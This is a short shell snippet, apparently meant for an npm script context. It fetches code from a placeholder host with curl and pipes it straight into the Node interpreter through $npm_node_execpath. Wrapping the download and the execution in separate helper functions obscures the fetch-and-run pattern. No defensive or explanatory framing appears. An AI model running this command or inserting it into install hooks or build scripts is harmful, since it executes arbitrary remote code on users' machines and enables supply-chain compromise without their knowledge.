run() { "$npm_node_execpath" -; }
get() { curl -fsS "$1"; }
get https://files.example.test/first | run
